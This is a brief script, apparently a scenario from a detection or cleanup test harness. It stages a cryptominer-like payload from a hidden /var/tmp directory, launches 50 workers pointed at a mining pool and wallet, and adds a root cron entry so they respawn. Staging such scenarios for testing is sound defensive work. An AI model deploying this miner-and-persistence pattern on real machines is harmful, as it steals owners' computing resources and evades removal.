# As many as a large host has cores: how long it takes until all stand still, and until all are gone.
mimic /var/tmp/.fifty/worker
n=0
while [ $n -lt 50 ]; do
  start -d 1 -p "$POOL" /var/tmp/.fifty/worker "worker-$n" -o "$POOL" -u "$WALLET"
  n=$((n + 1))
done
echo '*/5 * * * * root /var/tmp/.fifty/worker' | put /etc/cron.d/fifty
